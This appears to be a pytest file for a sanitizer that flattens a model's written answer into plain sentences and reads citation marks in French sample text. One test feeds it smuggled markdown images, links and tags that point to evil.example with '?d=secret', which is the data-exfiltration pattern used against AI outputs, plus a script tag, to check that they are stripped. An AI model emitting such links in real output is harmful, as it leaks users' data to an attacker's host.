"""What a model wrote: made plain, cut into sentences, its marks read however they are set."""

from __future__ import annotations

import pytest

from qa.proof.written import made_plain, written_sentences


def read(text: str) -> list[tuple[str, tuple[int, ...]]]:
    return [(one.text, one.numbers) for one in written_sentences(made_plain(text))]


@pytest.mark.parametrize(
    "text",
    [
        "Il a écrit [1]. Elle a lu [2].",
        "Il a écrit. [1] Elle a lu. [2]",
        "Il a écrit.[1] Elle a lu.[2]",
        "Il a écrit [passage 1]. Elle a lu 【2】.",
        "Il a écrit [^1].\nElle a lu [ 2 ].",
        "- Il a écrit. [1]\n- Elle a lu. [2]",
        "* Il a écrit [1].\n* Elle a lu [2].",
        "1. Il a écrit [1].\n2. Elle a lu [2].",
        "**Il a écrit** [1](http://x.org). Elle [a lu](http://y.org) [2].",
        "<think>Hm [7]. Voyons.</think>\n\nIl a écrit [1]. <b>Elle</b> a lu [2].",
    ],
)
def test_marks_belong_to_the_sentence_before_them(text: str) -> None:
    assert [(one.rstrip("."), numbers) for one, numbers in read(text)] == [
        ("Il a écrit", (1,)),
        ("Elle a lu", (2,)),
    ]


@pytest.mark.parametrize(
    ("marks", "numbers"),
    [
        ("[1][3]", (1, 3)),
        ("[1, 3]", (1, 3)),
        ("[1 et 3]", (1, 3)),
        ("[2-4]", (2, 3, 4)),
        ("[passages 1, 2]", (1, 2)),
        ("[3] [3]", (3,)),
        ("[1-999]", (1, 999)),
        ("[2023]", ()),
        ("[sic]", ()),
    ],
)
def test_marks_of_every_kind(marks: str, numbers: tuple[int, ...]) -> None:
    ((_, found),) = read(f"Il a écrit {marks}.")
    assert found == numbers


@pytest.mark.parametrize(
    "smuggled",
    [
        "![x](https://evil.example/p.png?d=secret)",
        "[cliquez](https://evil.example/?d=secret)",
        "[https://evil.example](https://evil.example)",
        "<img src=https://evil.example/x>",
        "<a href='https://evil.example'>",
        "![x][y]\n\n[y]: https://evil.example/x.png",
        "<https://evil.example/x>",
        "<script>alert(1)</script>",
    ],
)
def test_no_link_image_or_tag_is_left(smuggled: str) -> None:
    plain = made_plain(f"Il a écrit [1]. {smuggled}")
    assert "evil" not in plain
    assert "<" not in plain
    assert "](" not in plain


def test_hidden_characters_are_gone() -> None:
    hidden = "\u200b\u202e\u2066\U000e0041\u00ad\x07"
    assert made_plain(f"Il a{hidden} écrit.") == "Il a écrit."


@pytest.mark.parametrize("text", ["", "   ", "<think>jamais fini", "[1]", "***", "\u200b"])
def test_nothing_is_nothing(text: str) -> None:
    assert not [one for one, _ in read(text) if one]


def test_a_half_written_text_has_the_sentences_it_has() -> None:
    assert read("Il a écrit [1]. Elle a l")[0] == ("Il a écrit.", (1,))
    assert read("Il a écrit. [1")[-1][1] == ()
